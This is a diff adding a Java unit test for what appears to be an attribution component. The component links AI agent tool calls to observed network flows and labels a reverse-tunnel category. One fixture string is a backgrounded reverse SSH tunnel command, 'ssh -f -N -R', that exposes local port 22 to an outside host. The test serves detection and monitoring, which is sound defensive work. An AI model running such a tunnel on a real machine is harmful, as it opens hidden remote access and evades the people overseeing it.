@@ -203,4 +203,19 @@ class EpisodeAttributionTest {
                 .satisfies(c -> assertThat(c.getReason()).isEqualTo(late.getReason()));
         assertThat(EpisodeAttribution.reportedLate(late)).isEqualTo(late);
     }
+
+    @Test
+    void aTunnelCallThatStartedInTheWindowAfterItsAnchorIsNamedForTheJoinedTunnel() {
+        AgentEvent browse = call("ep-browse", 1, 9_900, 10_500, "curl -sL https://docs.python.org/3/");
+        AgentEvent tunnel = call("ep-tunnel", 4, 40_000, 41_000, "ssh -f -N -R 4444:localhost:22 u@203.0.113.9");
+        List<Anchor> anchors = List.of(Anchor.flow(T0 + 10_000, "198.51.100.4", 443));
+        List<Category> joined = List.of(Category.REVERSE_TUNNEL);
+        assertThat(EpisodeAttribution.rank(List.of(browse, tunnel), anchors, joined, T0, T0 + 60_000))
+                .first()
+                .satisfies(e -> assertThat(e.getEpisodeId()).isEqualTo("ep-tunnel"));
+        // outside the window, or without a window, a call after the anchor is not named
+        assertThat(EpisodeAttribution.rank(List.of(browse, tunnel), anchors, joined))
+                .extracting(e -> e.getEpisodeId())
+                .containsExactly("ep-browse");
+    }
 }
